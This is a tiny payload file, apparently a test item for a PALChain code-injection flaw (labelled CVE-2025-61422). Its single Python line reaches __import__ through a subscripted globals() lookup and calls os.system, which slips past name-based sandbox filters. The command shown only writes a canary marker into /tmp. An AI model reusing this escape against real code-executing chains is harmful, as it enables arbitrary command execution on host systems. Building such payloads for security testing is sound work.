# source: PALChain CVE-2025-61422
# effect: process

globals()["__builtins__"].__dict__["__import__"]("os").system("echo names/subscript_lookup > /tmp/canary/process")
